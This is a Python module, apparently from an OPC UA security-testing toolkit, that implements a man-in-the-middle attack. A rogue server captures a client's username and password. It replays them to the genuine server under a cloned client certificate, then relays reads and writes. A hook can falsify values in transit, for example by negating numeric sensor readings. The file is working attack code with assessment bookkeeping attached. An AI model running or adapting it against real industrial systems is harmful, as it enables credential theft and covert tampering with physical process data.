#!/usr/bin/env python3
# -*- coding: utf-8 -*-
"""
MIDDLEPERSON - OPC UA TRUSTKIT
Fichier: app/services/middleperson.py

Rogue Server doublé d'une jambe amont: à l'activation de session de la
victime, les identifiants capturés sont rejoués auprès du vrai serveur
avec un sosie du certificat client, puis les requêtes de la victime sont
relayées. Un crochet de manipulation peut réécrire les valeurs lues et
les écritures en transit.

Auteur: Équipe Développement
Date: 2025
Version: 1.0
"""

import itertools
import threading
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Callable, Iterable, List, Optional, Tuple, Union

from app.exceptions import AuthFailed, ReplayFailed, TrustKitError
from app.models.assessment import AttackKind, AttackOutcome, AttackResult, EvidenceKind, Side
from app.models.certificate import ApplicationIdentity, CertificateRecord
from app.models.endpoint import TargetDescriptor, token_policy_for
from app.models.session import SessionState
from app.models.settings import ClientConfig
from app.models.trust import TrustDecision, TrustPolicy
from app.protocol.status import StatusCode, is_good, status_name
from app.protocol.structures import (
    EndpointDescription, ReadRequest, ReadResponse, UnknownService, UserTokenType, WriteRequest, WriteResponse,
    WriteValue, join_request_header, split_request_header
)
from app.protocol.types import DataValue, NodeId, variant_for
from app.services.client_service import ClientSession, UAClient, rank_endpoints
from app.services.fabricated_data import FabricatedDataGenerator
from app.services.pki_service import clone_certificate
from app.services.rogue_server import RogueServer, audit
from app.services.server_service import ChannelContext
from app.services.transcript import INBOUND, OUTBOUND, Transcript

ValueRewrite = Callable[[NodeId, Any], Any]


@dataclass
class Manipulation:
    """Réécriture des valeurs en transit; None = relais inchangé."""
    on_read: Optional[ValueRewrite] = None
    on_write: Optional[ValueRewrite] = None

    def rewrite_read(self, node_id: NodeId, value: Any) -> Any:
        return self.on_read(node_id, value) if self.on_read else value

    def rewrite_write(self, node_id: NodeId, value: Any) -> Any:
        return self.on_write(node_id, value) if self.on_write else value

    @classmethod
    def negate(cls, node_ids: Iterable[str]) -> 'Manipulation':
        """Inverse le signe des valeurs numériques lues sur ces nœuds."""
        targets = {NodeId.parse(n) if isinstance(n, str) else n for n in node_ids}

        def flip(node_id: NodeId, value: Any) -> Any:
            if node_id in targets and isinstance(value, (int, float)) and not isinstance(value, bool):
                return -value
            return value
        return cls(on_read=flip)


UPSTREAM = 'upstream'


class Middleperson(RogueServer):
    """
    Les preuves côté victime cliente (canal accepté, identifiants) sont
    celles du Rogue Server; le rejeu et le relais ajoutent SessionReplayed,
    ValueRead (eavesdropped), ValueWritten et ForwardedTraffic.
    """

    attack_kind = AttackKind.MIDDLEPERSON

    def __init__(self, target: TargetDescriptor, listen: Tuple[str, int] = ('127.0.0.1', 0),
                 generator: Optional[FabricatedDataGenerator] = None,
                 manipulation: Optional[Manipulation] = None, forwarding_only: bool = False,
                 impersonate: Optional[bytes] = None, upstream_identity: Optional[ApplicationIdentity] = None,
                 transcript_dir: Optional[Union[str, Path]] = None, label: str = 'middleperson',
                 config_class=None, timeout: float = 10.0):
        super().__init__(target, listen, generator=generator, transcript_dir=transcript_dir, label=label,
                         config_class=config_class)
        self.manipulation = manipulation or Manipulation()
        self.forwarding_only = forwarding_only
        self.timeout = timeout
        self._impersonate = impersonate
        self._upstream_identity = upstream_identity
        self._identity_lock = threading.Lock()
        self.upstream_transcripts: List[Transcript] = []
        self._upstream_index = itertools.count()
        self._forwarded = 0
        self._replay_failed = False

    # === JAMBE AMONT ===

    def upstream_identity(self, victim: Optional[CertificateRecord] = None) -> ApplicationIdentity:
        """
        Identité présentée au vrai serveur, fixée au premier besoin: sosie
        du certificat fourni, sinon du certificat de la première victime.
        """
        with self._identity_lock:
            if self._upstream_identity is None:
                source = self._impersonate or (victim.der if victim is not None else None)
                if source is None:
                    source = self.identity.der
                self._upstream_identity = clone_certificate(source)
            return self._upstream_identity

    def _upstream_endpoint(self, token_type: UserTokenType) -> Optional[EndpointDescription]:
        for endpoint in rank_endpoints(self.target.endpoints):
            if token_policy_for(endpoint, token_type) is not None:
                return endpoint
        return None

    def _new_upstream_transcript(self) -> Transcript:
        index = next(self._upstream_index)
        path = self.transcript_dir / f"{self.label}-upstream-{index:03d}.tktr" if self.transcript_dir else None
        transcript = Transcript(path, label=f"{self.label}-upstream-{index:03d}")
        self.upstream_transcripts.append(transcript)
        return transcript

    def connect_upstream(self, ctx: ChannelContext,
                         credentials: Optional[Tuple[str, str]]) -> ClientSession:
        """
        Ouvre une session authentifiée auprès du vrai serveur.

        Raises:
            ReplayFailed: identifiants refusés par le vrai serveur
            TrustKitError: canal refusé ou cible injoignable
        """
        token_type = UserTokenType.USERNAME if credentials else UserTokenType.ANONYMOUS
        endpoint = self._upstream_endpoint(token_type)
        if endpoint is None:
            raise ReplayFailed(f"Aucun endpoint amont n'accepte les jetons {token_type.name}")
        username, password = credentials or (None, None)
        client = UAClient(ClientConfig(
            identity=self.upstream_identity(ctx.peer_certificate),
            trust_policy=TrustPolicy.accept_all(),
            username=username,
            password=password,
            timeout=self.timeout,
        ), transcript=self._new_upstream_transcript())
        try:
            return client.connect(endpoint, url=self.target.url)
        except AuthFailed as e:
            raise ReplayFailed(f"Identifiants refusés par {self.target.url}: {status_name(e.status)}",
                               e.status) from e

    def _replay(self, ctx: ChannelContext, session: SessionState,
                credentials: Optional[Tuple[str, str]]) -> int:
        if self.forwarding_only:
            credentials = None
        try:
            upstream = self.connect_upstream(ctx, credentials)
        except ReplayFailed as e:
            self._replay_failed = True
            self.note(f"ReplayFailed: {e}")
            self.logger.warning(f"⚠️ Rejeu impossible: {e}")
            return int(StatusCode.Good)
        except TrustKitError as e:
            self.note(f"Jambe amont refusée: {e}")
            self.logger.info(f"🚫 Le vrai serveur refuse la jambe amont: {e}")
            return int(StatusCode.Good)

        ctx.extras[UPSTREAM] = upstream
        identity = self.upstream_identity()
        self.add_evidence(EvidenceKind.UNTRUSTED_CHANNEL_ACCEPTED, Side.SERVER,
                          presented_thumbprint=identity.record.hex_thumbprint,
                          presented_uri=identity.application_uri,
                          security_mode=upstream.endpoint.security_mode.name)
        self.add_evidence(EvidenceKind.SESSION_REPLAYED, Side.SERVER,
                          username=credentials[0] if credentials else None,
                          forwarding_only=credentials is None,
                          upstream_session=upstream.session_id.to_string())
        audit.logger.warning(f"🎭 Session rejouée auprès de {self.target.url} "
                             f"({credentials[0] if credentials else 'anonyme'})")
        return int(StatusCode.Good)

    # === HOOKS SERVEUR ===

    def authenticate_user(self, username: str, password: str, session: SessionState, ctx: ChannelContext) -> int:
        super().authenticate_user(username, password, session, ctx)
        return self._replay(ctx, session, (username, password))

    def admit_anonymous(self, session: SessionState, ctx: ChannelContext) -> int:
        return self._replay(ctx, session, None)

    def on_connection_closed(self, ctx: ChannelContext):
        upstream: Optional[ClientSession] = ctx.extras.pop(UPSTREAM, None)
        if upstream is not None:
            upstream.close()

    def _count_forward(self):
        with self._outcome_lock:
            self._forwarded += 1

    # === RELAIS ===

    def handle_read(self, request: ReadRequest, ctx: ChannelContext) -> ReadResponse:
        upstream: Optional[ClientSession] = ctx.extras.get(UPSTREAM)
        if upstream is None:
            return super().handle_read(request, ctx)
        self.active_session(request, ctx)
        relayed: ReadResponse = upstream.call(ReadRequest(
            max_age=request.max_age,
            timestamps_to_return=request.timestamps_to_return,
            nodes_to_read=request.nodes_to_read,
        ))
        self._count_forward()

        results = []
        for item, value in zip(request.nodes_to_read or [], relayed.results or []):
            if value.value is not None and (value.status is None or is_good(value.status)):
                real = value.value.value
                self.generator.observe(item.node_id, real)
                shown = self.manipulation.rewrite_read(item.node_id, real)
                if shown != real:
                    value = DataValue(value=variant_for(shown), status=value.status,
                                      source_timestamp=value.source_timestamp,
                                      server_timestamp=value.server_timestamp)
                self.add_evidence(EvidenceKind.VALUE_READ, node_id=item.node_id.to_string(), value=real,
                                  relayed=shown, source='eavesdropped')
            results.append(value)
        return ReadResponse(response_header=self.response_header(request), results=results,
                            diagnostic_infos=relayed.diagnostic_infos)

    def handle_write(self, request: WriteRequest, ctx: ChannelContext) -> WriteResponse:
        upstream: Optional[ClientSession] = ctx.extras.get(UPSTREAM)
        if upstream is None:
            return super().handle_write(request, ctx)
        self.active_session(request, ctx)

        items = []
        for item in request.nodes_to_write or []:
            wanted = item.value.value.value if item.value is not None and item.value.value is not None else None
            sent = self.manipulation.rewrite_write(item.node_id, wanted)
            if sent != wanted:
                item = WriteValue(node_id=item.node_id, attribute_id=item.attribute_id,
                                  index_range=item.index_range, value=DataValue(value=variant_for(sent)))
            items.append((item, wanted, sent))

        relayed: WriteResponse = upstream.call(WriteRequest(nodes_to_write=[i for i, _, _ in items]))
        self._count_forward()
        for (item, wanted, sent), status in zip(items, relayed.results or []):
            if is_good(status):
                self.add_evidence(EvidenceKind.VALUE_WRITTEN, node_id=item.node_id.to_string(), value=sent,
                                  requested=wanted, source='forwarded')
        return WriteResponse(response_header=self.response_header(request), results=list(relayed.results or []),
                             diagnostic_infos=relayed.diagnostic_infos)

    def handle_unknown_service(self, body, ctx: ChannelContext):
        upstream: Optional[ClientSession] = ctx.extras.get(UPSTREAM)
        if upstream is None or not isinstance(body, UnknownService):
            return super().handle_unknown_service(body, ctx)
        header, rest = split_request_header(body)
        header.authentication_token = upstream.authentication_token
        response = upstream.channel.exchange(join_request_header(body.type_id, header, rest))
        self._count_forward()
        return response

    def judge_client(self, peer: CertificateRecord, ctx: ChannelContext) -> TrustDecision:
        self.upstream_identity(peer)
        return super().judge_client(peer, ctx)

    # === RÉSULTAT ===

    def outcome(self) -> AttackOutcome:
        """
        Vulnerable si une session a été rejouée, ou si la victime cliente a
        accepté le clone; Inconclusive si les identifiants ont été refusés
        en amont.
        """
        outcome = super().outcome()
        with self._outcome_lock:
            forwarded = self._forwarded
        if forwarded:
            outcome.add(
                EvidenceKind.FORWARDED_TRAFFIC, Side.CLIENT,
                requests=forwarded,
                victim_bytes_in=sum(t.byte_count(INBOUND) for t in self.transcripts),
                victim_bytes_out=sum(t.byte_count(OUTBOUND) for t in self.transcripts),
                upstream_bytes_in=sum(t.byte_count(INBOUND) for t in self.upstream_transcripts),
                upstream_bytes_out=sum(t.byte_count(OUTBOUND) for t in self.upstream_transcripts),
            )
        if outcome.has(EvidenceKind.SESSION_REPLAYED):
            outcome.result = AttackResult.VULNERABLE
        elif self._replay_failed:
            outcome.result = AttackResult.INCONCLUSIVE
        if self.forwarding_only:
            outcome.note("Variante relais seul: aucun identifiant à rejouer")
        return outcome


def middleperson(target: TargetDescriptor, listen: Tuple[str, int] = ('127.0.0.1', 0), **kwargs) -> Middleperson:
    """
    Démarre un Middleperson devant la cible.

    Raises:
        BindFailed, ConfigurationError
    """
    attacker = Middleperson(target, listen, **kwargs).start()
    audit.logger.warning(f"🎭 Middleperson entre les victimes et {target.url}, écoute sur {attacker.url}")
    return attacker
